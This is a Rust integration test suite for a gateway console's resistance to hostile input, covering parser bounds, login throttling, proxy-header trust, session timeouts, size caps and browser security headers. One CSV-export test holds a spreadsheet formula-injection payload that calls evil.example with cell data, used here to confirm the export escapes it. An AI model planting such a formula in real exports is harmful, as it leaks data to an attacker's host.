//! Hostile input: no single user or request can crash, exhaust or lock up the console.
//! One test per defect of issue 13; each failed (or crashed the server) before its fix.

use crate::support::*;
use app::dto::Role;
use reqwest::StatusCode;

fn encoded(q: &str) -> String {
    form_urlencoded::byte_serialize(q.as_bytes()).collect()
}

/// A log query nested or sized to overflow a recursive parser is a 400 naming the bound,
/// through the API, the live tail and the server-rendered page; the server stays up.
#[tokio::test]
async fn log_queries_past_their_bounds_are_400s_and_never_crash_the_server() {
    let app = TestApp::spawn(Backend::Sqlite).await;
    let viewer = app.signed_in(Role::Viewer).await;
    let cases = [
        ("(".repeat(10_000), "at most 2048 bytes"),
        ("-".repeat(30_000), "at most 2048 bytes"),
        ("(".repeat(1_000), "levels of nesting"),
        ("NOT ".repeat(500) + "x", "levels of nesting"),
        ((0..9).map(|i| format!("/r{i}/")).collect::<Vec<_>>().join(" "), "at most 8 regular expressions"),
        (r"/\w{500}\w{500}/".to_string(), "size limit"),
    ];
    for (q, bound) in &cases {
        let r = viewer.get(&format!("/api/v1/logs?q={}", encoded(q))).await;
        let message = assert_error(r, StatusCode::BAD_REQUEST, "bad_request").await;
        assert!(message.contains(bound) && message.contains("at character"), "{bound}: {message}");

        let tail = viewer.get(&format!("/api/v1/logs/tail?q={}", encoded(q))).await;
        let message = assert_error(tail, StatusCode::BAD_REQUEST, "bad_request").await;
        assert!(message.contains(bound), "tail, {bound}: {message}");

        let page = viewer.get(&format!("/logs?q={}", encoded(q))).await;
        assert_eq!(page.status(), StatusCode::OK, "the page shows the error");
        let html = page.text().await.unwrap();
        assert!(html.contains(bound), "the page says which bound: {bound}");
    }
    let alive = app.client().get(app.url("/healthz")).send().await.unwrap();
    assert_eq!(alive.status(), StatusCode::OK);
    let ok =
        viewer.get(&format!("/api/v1/logs?q={}", encoded(&format!("{}x{}", "(".repeat(32), ")".repeat(32))))).await;
    assert_eq!(ok.status(), StatusCode::OK, "32 levels are fine");
}

async fn login_from(app: &TestApp, forwarded_for: Option<&str>, username: &str, password: &str) -> reqwest::Response {
    let mut request = app
        .client()
        .post(app.url("/api/v1/session"))
        .json(&serde_json::json!({"username": username, "password": password}));
    if let Some(addr) = forwarded_for {
        request = request.header("x-forwarded-for", addr);
    }
    request.send().await.expect("request")
}

/// Refusals in the ledger as (reason, summed count, entries).
async fn refusals(app: &TestApp, reason: &str) -> (u64, usize) {
    let rows: Vec<(String,)> = sqlx::query_as("select params from audit_log where kind = 'login_failure'")
        .fetch_all(&app.state.db)
        .await
        .unwrap();
    let mine: Vec<serde_json::Value> = rows
        .iter()
        .map(|(p,)| serde_json::from_str::<serde_json::Value>(p).unwrap())
        .filter(|p| p["refused"] == reason)
        .collect();
    (mine.iter().map(|p| p["count"].as_u64().expect("every refusal carries its count")).sum(), mine.len())
}

/// Parallel wrong passwords are counted before any is hashed: of 50 sent at once from one
/// address, only the 5 free ones reach the password check, the rest are 429s at once.
async fn parallel_wrong_logins_are_counted_before_hashing(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let attempts = (0..50).map(|_| login_from(&app, None, "admin", "wrong password"));
    let statuses: Vec<StatusCode> = futures::future::join_all(attempts).await.iter().map(|r| r.status()).collect();
    let checked = statuses.iter().filter(|s| **s == StatusCode::UNAUTHORIZED).count();
    let refused = statuses.iter().filter(|s| **s == StatusCode::TOO_MANY_REQUESTS).count();
    assert_eq!(checked + refused, 50, "{statuses:?}");
    assert!(checked <= server::auth::throttle::FREE_PER_PAIR as usize, "{checked} reached the password check");
    let r = login_from(&app, None, "admin", "wrong password").await;
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS);
    let retry: u64 = r.headers()["retry-after"].to_str().unwrap().parse().unwrap();
    assert!(retry >= 1, "{retry}");
}

/// Behind a trusted proxy, an attacker failing 50 times for `admin` slows only their own
/// address: the real admin at another address signs in at once, and the audit trail
/// records the forwarded addresses. From an untrusted peer the header is ignored.
async fn an_attacker_cannot_lock_the_admin_out(backend: Backend) {
    let app = TestApp::spawn_with(Options::new(backend).trusted_proxy("127.0.0.1/32")).await;
    for _ in 0..50 {
        let r = login_from(&app, Some("203.0.113.66"), "admin", "guess").await;
        assert!(matches!(r.status(), StatusCode::UNAUTHORIZED | StatusCode::TOO_MANY_REQUESTS), "{}", r.status());
    }
    let attacker = login_from(&app, Some("203.0.113.66"), "admin", ADMIN_PASSWORD).await;
    assert_eq!(attacker.status(), StatusCode::TOO_MANY_REQUESTS, "the guessing address waits, even with the password");

    let started = std::time::Instant::now();
    let admin = login_from(&app, Some("203.0.113.66, 198.51.100.7"), "admin", ADMIN_PASSWORD).await;
    assert_eq!(admin.status(), StatusCode::OK, "the admin elsewhere signs in");
    assert!(started.elapsed() < std::time::Duration::from_secs(2), "at once: {:?}", started.elapsed());
    let (addr,): (String,) =
        sqlx::query_as("select client_addr from audit_log where kind = 'login' order by id desc limit 1")
            .fetch_one(&app.state.db)
            .await
            .unwrap();
    assert_eq!(addr, "198.51.100.7", "the right-most untrusted hop: what the client wrote to its left does not count");

    // A peer that is not a trusted proxy cannot pick its address with the header.
    let untrusted = TestApp::spawn_with(Options::new(backend).trusted_proxy("192.0.2.0/24")).await;
    for i in 0..6 {
        login_from(&untrusted, Some(&format!("203.0.113.{i}")), "admin", "guess").await;
    }
    let r = login_from(&untrusted, Some("203.0.113.99"), "admin", ADMIN_PASSWORD).await;
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS, "the header was ignored: all came from 127.0.0.1");
}

/// 2,000 throttled attempts add a handful of ledger entries whose counts add up to 2,000.
async fn refusals_are_folded_into_windows_and_every_attempt_is_counted(backend: Backend) {
    let limits = server::limits::Limits { refusal_window: std::time::Duration::from_secs(1), ..Default::default() };
    let app = TestApp::spawn_with(Options::new(backend).limits(limits)).await;
    let before = app.state.db.clone();
    let entries_before: (i64,) = sqlx::query_as("select count(*) from audit_log").fetch_one(&before).await.unwrap();
    let (mut throttled, mut checked) = (0u64, 0u64);
    for _ in 0..(2_000 / 20) {
        let batch = (0..20).map(|_| login_from(&app, None, "admin", "wrong password"));
        for r in futures::future::join_all(batch).await {
            match r.status() {
                StatusCode::TOO_MANY_REQUESTS => throttled += 1,
                StatusCode::UNAUTHORIZED => checked += 1,
                other => panic!("{other}"),
            }
        }
    }
    assert_eq!(throttled + checked, 2_000);
    let (counted, entries) = eventually("every refusal summarized", || async {
        let (counted, entries) = refusals(&app, "throttled").await;
        (counted == throttled).then_some((counted, entries))
    })
    .await;
    assert_eq!(counted, throttled);
    assert!(entries <= 20, "{entries} entries for {throttled} throttled attempts");
    let (wrong, _) = refusals(&app, "invalid credentials").await;
    assert_eq!(wrong, checked, "the checked ones are all there too");
    let entries_after: (i64,) = sqlx::query_as("select count(*) from audit_log").fetch_one(&before).await.unwrap();
    assert!(entries_after.0 - entries_before.0 <= 40, "the ledger grew by {}", entries_after.0 - entries_before.0);
    assert!(app.state.ledger.verify().await.unwrap().ok, "summaries are ordinary links of the chain");
}

/// A session in use is not signed out 30 minutes after sign-in: each request (at most one
/// store write a minute) restarts the idle clock; the 12 h absolute limit stays.
async fn an_active_session_outlives_the_idle_timeout(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let viewer = app.signed_in(Role::Viewer).await;
    let now = server::db::now_ms();
    // As if signed in 29 minutes ago and idle since: one minute left.
    let stamps = regex::Regex::new(r#""(login_at_ms|touched_ms)":\d+"#).unwrap();
    let age = |login_ago_ms: i64, expires_in_ms: i64| {
        let db = app.state.db.clone();
        let stamps = stamps.clone();
        async move {
            let rows: Vec<(String, String)> =
                sqlx::query_as("select id, data from sessions").fetch_all(&db).await.unwrap();
            for (id, data) in rows {
                // Edited as text: the record's id is an i128, which a JSON value would round.
                let then = (now - login_ago_ms).to_string();
                let record = stamps.replace_all(&data, |c: &regex::Captures| format!("\"{}\":{then}", &c[1]));
                assert!(record.contains(&format!("\"touched_ms\":{then}")), "{record}");
                sqlx::query("update sessions set data = $1, expiry_date = $2 where id = $3")
                    .bind(record.to_string())
                    .bind(now + expires_in_ms)
                    .bind(id)
                    .execute(&db)
                    .await
                    .unwrap();
            }
        }
    };
    let expiry = || async {
        let (ms,): (i64,) =
            sqlx::query_as("select max(expiry_date) from sessions").fetch_one(&app.state.db).await.unwrap();
        ms
    };
    age(29 * 60_000, 60_000).await;

    assert_eq!(viewer.get("/api/v1/gateways").await.status(), StatusCode::OK);

    let moved = expiry().await - now;
    assert!(moved > 29 * 60_000, "the idle clock restarted: expires in {moved} ms");
    // Past the absolute limit, activity does not help.
    age(12 * 3_600_000 + 1, 60_000).await;
    assert_eq!(viewer.get("/api/v1/gateways").await.status(), StatusCode::UNAUTHORIZED);
}

/// A submitted user name that is a spreadsheet formula reaches the CSV export as text.
async fn a_formula_in_a_failed_sign_in_is_text_in_the_csv_export(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"open")"#;
    login_from(&app, None, formula, "guess").await;
    let viewer = app.signed_in(Role::Viewer).await;
    let csv = viewer.get("/api/v1/audit/export?format=csv&kind=login_failure").await.text().await.unwrap();
    let line = csv.lines().find(|l| l.contains("HYPERLINK")).expect("the failed sign-in is exported");
    assert!(line.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""open"")""#), "{line}");
    assert!(!line.contains(",=HYPERLINK") && !line.contains(",\"=HYPERLINK"), "{line}");
}

crate::both_databases!(
    a_formula_in_a_failed_sign_in_is_text_in_the_csv_export,
    an_active_session_outlives_the_idle_timeout,
    parallel_wrong_logins_are_counted_before_hashing,
    an_attacker_cannot_lock_the_admin_out,
    refusals_are_folded_into_windows_and_every_attempt_is_counted,
    an_account_guessed_from_many_addresses_gets_one_check_a_second_not_a_shared_sleep,
    a_shared_address_full_of_failures_does_not_lock_out_who_signed_in_from_it,
);

/// Issue 29, item 1: a sign-in body is bounded before anything reads it (JSON and the
/// form alike), the refusal says the bound, and nothing is recorded or kept of it.
#[tokio::test]
async fn a_huge_sign_in_is_refused_by_its_size_before_anything_keeps_it() {
    let app = TestApp::spawn(Backend::Sqlite).await;
    let entries = app.audit_count().await;
    let huge = "x".repeat(2 << 20);
    let r = login_from(&app, None, &huge, "guess").await;
    let message = assert_error(r, StatusCode::PAYLOAD_TOO_LARGE, "payload_too_large").await;
    assert!(message.contains("a sign-in may be at most 8192 bytes"), "{message}");
    let form = app.client().post(app.url("/login")).form(&[("username", huge.as_str()), ("password", "guess")]);
    let r = form.send().await.unwrap();
    assert_eq!(r.status(), StatusCode::PAYLOAD_TOO_LARGE);
    assert!(r.text().await.unwrap().contains("at most 8192 bytes"));
    assert_eq!(app.audit_count().await, entries, "a refused body is not on the record");
    // Just under the bound: a wrong sign-in like any other, its name cut to 64 characters
    // on the record.
    let long = "y".repeat(7_000);
    assert_eq!(login_from(&app, None, &long, "guess").await.status(), StatusCode::UNAUTHORIZED);
    let target: (String,) =
        sqlx::query_as("select target from audit_log where kind = 'login_failure' order by id desc limit 1")
            .fetch_one(&app.state.db)
            .await
            .unwrap();
    assert_eq!(target.0.chars().count(), 64);
    // Other API bodies keep their own, larger bound, also named.
    let admin = app.signed_in(Role::Admin).await;
    let big = serde_json::json!({"reason": "z".repeat(70_000)});
    let r = admin.post("/api/v1/gateways/edge/actions/restart", &big).await;
    let message = assert_error(r, StatusCode::PAYLOAD_TOO_LARGE, "payload_too_large").await;
    assert!(message.contains("any other request 65536 bytes"), "{message}");
}

/// IPv6 clients are counted by their /64: a new address from the same block is the same
/// client.
#[tokio::test]
async fn an_ipv6_client_hopping_addresses_in_its_block_is_one_client() {
    let app = TestApp::spawn_with(Options::new(Backend::Sqlite).trusted_proxy("127.0.0.1/32")).await;
    for i in 0..server::auth::throttle::FREE_PER_ADDRESS {
        let r = login_from(&app, Some(&format!("2001:db8:7:1::{:x}", i + 1)), &format!("user{i}"), "guess").await;
        assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    }
    let r = login_from(&app, Some("2001:db8:7:1:abcd::1"), "someone", "guess").await;
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS, "the same /64");
    let r = login_from(&app, Some("2001:db8:7:2::1"), "someone", "guess").await;
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED, "another /64 is another client");
}

/// Past 50 failures an account gets one password check a second from anywhere: ten
/// attempts at once from ten new addresses are not all checked (before, each slept one
/// second side by side, then all were checked).
async fn an_account_guessed_from_many_addresses_gets_one_check_a_second_not_a_shared_sleep(backend: Backend) {
    let app = TestApp::spawn_with(Options::new(backend).trusted_proxy("127.0.0.1/32")).await;
    for i in 0..server::auth::throttle::ACCOUNT_SLOW_AT {
        let r = login_from(&app, Some(&format!("10.20.{}.{}", i / 200, i % 200 + 1)), "admin", "guess").await;
        assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    }
    tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
    let at_once = (0..10).map(|i| {
        let app = &app;
        async move { login_from(app, Some(&format!("10.30.0.{}", i + 1)), "admin", "guess").await.status() }
    });
    let statuses = futures::future::join_all(at_once).await;
    let checked = statuses.iter().filter(|s| **s == StatusCode::UNAUTHORIZED).count();
    let refused = statuses.iter().filter(|s| **s == StatusCode::TOO_MANY_REQUESTS).count();
    assert!((1..=2).contains(&checked) && checked + refused == 10, "one check a second: {statuses:?}");
}

/// Everyone behind one address (an ingress without `--trusted-proxy`): 20 failures from
/// anyone hold the address, but not for an account that signed in from it lately.
async fn a_shared_address_full_of_failures_does_not_lock_out_who_signed_in_from_it(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    assert_eq!(login_from(&app, None, "admin", ADMIN_PASSWORD).await.status(), StatusCode::OK);
    for i in 0..server::auth::throttle::FREE_PER_ADDRESS + 3 {
        let _ = login_from(&app, None, &format!("guess{i}"), "guess").await;
    }
    let r = login_from(&app, None, "someone-else", "guess").await;
    assert_eq!(r.status(), StatusCode::TOO_MANY_REQUESTS, "the address is held");
    let r = login_from(&app, None, "admin", ADMIN_PASSWORD).await;
    assert_eq!(r.status(), StatusCode::OK, "the admin, who signed in from here, is not");
}

/// The id of the newest account (the one a test just signed in as).
async fn newest_user_id(app: &TestApp) -> i64 {
    let (id,): (i64,) = sqlx::query_as("select max(id) from users").fetch_one(&app.state.db).await.unwrap();
    id
}

/// Open event streams and log tails are capped per user and in total; past a cap the
/// next is a 429 with `Retry-After` that names the cap, and a closed stream frees its
/// place. Probes, log searches and audit verifications check their caps the same way.
#[tokio::test]
async fn streams_probes_searches_and_verifies_are_capped_per_user_and_in_total() {
    use server::limits::{Limits, Work};
    let limits = Limits { streams: 3, streams_per_user: 2, ..Limits::default() };
    let app = TestApp::spawn_with(Options::new(Backend::Sqlite).limits(limits)).await;
    let alice = app.signed_in(Role::Viewer).await;
    let first = alice.get("/api/v1/events").await;
    let second = alice.get("/api/v1/logs/tail?q=error").await;
    assert_eq!((first.status(), second.status()), (StatusCode::OK, StatusCode::OK));
    let third = alice.get("/api/v1/events").await;
    assert_eq!(third.headers()["retry-after"], "5");
    let message = assert_error(third, StatusCode::TOO_MANY_REQUESTS, "too_many_requests").await;
    assert!(message.contains("at most 2 per user"), "{message}");

    let bob = app.signed_in(Role::Viewer).await;
    let bobs = bob.get("/api/v1/events").await;
    assert_eq!(bobs.status(), StatusCode::OK);
    let carol = app.signed_in(Role::Viewer).await;
    let message =
        assert_error(carol.get("/api/v1/events").await, StatusCode::TOO_MANY_REQUESTS, "too_many_requests").await;
    assert!(message.contains("(at most 3)"), "the console's cap: {message}");

    drop(first);
    let reopened = eventually("a closed stream frees its place", || async {
        let r = carol.get("/api/v1/events").await;
        (r.status() == StatusCode::OK).then_some(r)
    })
    .await;
    drop((second, bobs, reopened));

    // The other kinds: with the user's place taken, the request is refused before it runs.
    let dave = app.signed_in(Role::Viewer).await;
    let id = newest_user_id(&app).await;
    let held: Vec<_> = (0..16).map(|_| app.state.caps.enter(Work::Probe, id).unwrap()).collect();
    let probe = dave.post("/api/v1/probe", &serde_json::json!({"gateway": "edge", "path": "/healthz"})).await;
    assert!(assert_error(probe, StatusCode::TOO_MANY_REQUESTS, "too_many_requests").await.contains("probes in flight"));
    drop(held);
    let held: Vec<_> = (0..2).map(|_| app.state.caps.enter(Work::Search, id).unwrap()).collect();
    let search = dave.get("/api/v1/logs?q=error").await;
    assert!(assert_error(search, StatusCode::TOO_MANY_REQUESTS, "too_many_requests").await.contains("log searches"));
    drop(held);
    let held = app.state.caps.enter(Work::Verify, id).unwrap();
    let verify = dave.get("/api/v1/audit/verify").await;
    assert!(assert_error(verify, StatusCode::TOO_MANY_REQUESTS, "too_many_requests").await.contains("verifications"));
    drop(held);
    assert_eq!(dave.get("/api/v1/audit/verify").await.status(), StatusCode::OK, "places come back");
    assert_eq!(dave.get("/api/v1/logs?q=error").await.status(), StatusCode::OK);
}

/// Pages carry a Content-Security-Policy whose nonce is the one on the hydration scripts,
/// and forbid framing; API answers are never cached; https adds HSTS.
#[tokio::test]
async fn pages_and_answers_carry_the_browser_defences() {
    let app = TestApp::spawn(Backend::Sqlite).await;
    let viewer = app.signed_in(Role::Viewer).await;
    let page = viewer.get("/").await;
    assert_eq!(page.status(), StatusCode::OK);
    let csp = page.headers()["content-security-policy"].to_str().unwrap().to_string();
    assert!(page.headers()["permissions-policy"].to_str().unwrap().contains("camera=()"));
    assert_eq!(page.headers()["x-frame-options"], "DENY");
    assert!(page.headers().get("strict-transport-security").is_none(), "not over plain http");
    let html = page.text().await.unwrap();
    let nonce = csp.split("'nonce-").nth(1).and_then(|r| r.split('\'').next()).expect("a script nonce");
    assert!(nonce.len() >= 32 && csp.contains("frame-ancestors 'none'") && csp.contains("object-src 'none'"), "{csp}");
    assert!(html.contains(&format!("nonce=\"{nonce}\"")), "the hydration scripts carry the header's nonce");
    let again = viewer.get("/").await.headers()["content-security-policy"].to_str().unwrap().to_string();
    assert_ne!(again, csp, "a new nonce per response");

    let api = viewer.get("/api/v1/gateways").await;
    assert_eq!(api.headers()["cache-control"], "no-store");
    assert_eq!(api.headers()["x-frame-options"], "DENY");

    // Issue 29, item 9: rendered pages are kept by no cache, and the pages outside the
    // app (a 404, the API reference, single sign-on's) carry a policy too.
    let page = viewer.get("/").await;
    assert_eq!(page.headers()["cache-control"], "no-store", "a signed-in page");
    for path in ["/no/such/page", "/api/v1/reference", "/auth/oidc/callback?state=x&code=y"] {
        let r = viewer.get(path).await;
        let csp = r.headers().get("content-security-policy").map(|v| v.to_str().unwrap().to_string());
        assert!(
            csp.as_deref().is_some_and(|c| c.contains("frame-ancestors 'none'") && c.contains("default-src")),
            "{path} ({}): {csp:?}",
            r.status()
        );
        assert_eq!(r.headers()["cache-control"], "no-store", "{path}");
    }

    let https = TestApp::spawn_with(Options { https: true, ..Options::new(Backend::Sqlite) }).await;
    let r = https.client().get(https.url("/login")).send().await.unwrap();
    assert!(r.headers()["strict-transport-security"].to_str().unwrap().starts_with("max-age=31536000"));
    // Over https the session cookie is host-only by its name's prefix.
    let r = https.login(&https.client(), "admin", ADMIN_PASSWORD).await;
    let cookie = r.headers()["set-cookie"].to_str().unwrap().to_string();
    assert!(cookie.starts_with("__Host-gatewarden_session=") && cookie.contains("Secure"), "{cookie}");
    assert!(cookie.contains("Path=/") && !cookie.contains("Domain"), "{cookie}");
}

/// Sign-ins turned away unjudged (busy, throttled) from thousands of addresses still add
/// one entry a window: 300 parallel attempts from 300 forwarded addresses leave one
/// entry per judged attempt and at most a few for all the rest, counts adding up.
#[tokio::test]
async fn a_flood_from_many_addresses_adds_entries_for_judged_attempts_only() {
    let limits = server::limits::Limits { refusal_window: std::time::Duration::from_secs(1), ..Default::default() };
    let app = TestApp::spawn_with(Options::new(Backend::Sqlite).trusted_proxy("127.0.0.1/32").limits(limits)).await;
    let addrs: Vec<String> = (0..300).map(|i| format!("198.18.{}.{}", i / 200, i % 200 + 1)).collect();
    let attempts = addrs.iter().map(|a| login_from(&app, Some(a), "admin", "x"));
    let statuses: Vec<StatusCode> = futures::future::join_all(attempts).await.iter().map(|r| r.status()).collect();
    let judged = statuses.iter().filter(|s| **s == StatusCode::UNAUTHORIZED).count() as u64;
    let busy = statuses.iter().filter(|s| **s == StatusCode::TOO_MANY_REQUESTS).count() as u64;
    assert_eq!(judged + busy, 300);
    assert!(busy > 0, "more arrived at once than the gate lets through");
    // Turned away as "busy" (the password-check gate), or, once 50 have failed, as
    // "throttled" (the account's one check a second).
    let (counted, entries) = eventually("every refusal summarized", || async {
        let ((busy_n, busy_e), (slow_n, slow_e)) = (refusals(&app, "busy").await, refusals(&app, "throttled").await);
        (busy_n + slow_n == busy).then_some((busy_n + slow_n, busy_e + slow_e))
    })
    .await;
    assert_eq!(counted, busy);
    assert!(entries <= 8, "{entries} entries for {busy} turned away from {busy} addresses");
    let (wrong, wrong_entries) = refusals(&app, "invalid credentials").await;
    assert_eq!((wrong, wrong_entries as u64), (judged, judged), "each judged attempt is its own entry");
}

/// Issue 29, item 8: audit searches and exports and pod log reads are capped like log
/// searches (each its own count), an audit filter's text is bounded, and a read that runs
/// past its deadline is stopped with a 503 that says so (streams are not).
#[tokio::test]
async fn expensive_reads_are_capped_bounded_and_cut_off_at_their_deadline() {
    let none = server::limits::Limits { searches_per_user: 0, ..Default::default() };
    let app = TestApp::spawn_with(Options::new(Backend::Sqlite).limits(none)).await;
    let viewer = app.signed_in(Role::Viewer).await;
    for (path, bound) in [
        ("/api/v1/audit", "audit searches and exports running"),
        ("/api/v1/audit/export?format=csv", "audit searches and exports running"),
        ("/api/v1/gateways/edge/logs", "pod log reads running"),
    ] {
        let r = viewer.get(path).await;
        assert!(r.headers().contains_key("retry-after"), "{path}");
        let message = assert_error(r, StatusCode::TOO_MANY_REQUESTS, "too_many_requests").await;
        assert!(message.contains(bound), "{path}: {message}");
    }

    let app = TestApp::spawn(Backend::Sqlite).await;
    let viewer = app.signed_in(Role::Viewer).await;
    let long = "x".repeat(300);
    let message = assert_error(
        viewer.get(&format!("/api/v1/audit?q={long}")).await,
        StatusCode::UNPROCESSABLE_ENTITY,
        "validation",
    )
    .await;
    assert!(message.contains("at most 256 characters"), "{message}");
    assert_eq!(viewer.get("/api/v1/audit?q=login").await.status(), StatusCode::OK);

    // The deadline itself is `http::api`'s unit test (a handler made slow on purpose); here:
    // the event stream and the export, long by design, are not cut off by it.
    let hurried = server::limits::Limits { read_deadline: std::time::Duration::from_nanos(1), ..Default::default() };
    let app = TestApp::spawn_with(Options::new(Backend::Sqlite).limits(hurried)).await;
    let viewer = app.signed_in(Role::Viewer).await;
    assert_eq!(viewer.get("/api/v1/events").await.status(), StatusCode::OK);
    let export = viewer.get("/api/v1/audit/export?format=jsonl").await;
    assert_eq!(export.status(), StatusCode::OK);
    assert!(export.text().await.unwrap().contains("\"login\""), "the whole export arrives");
}
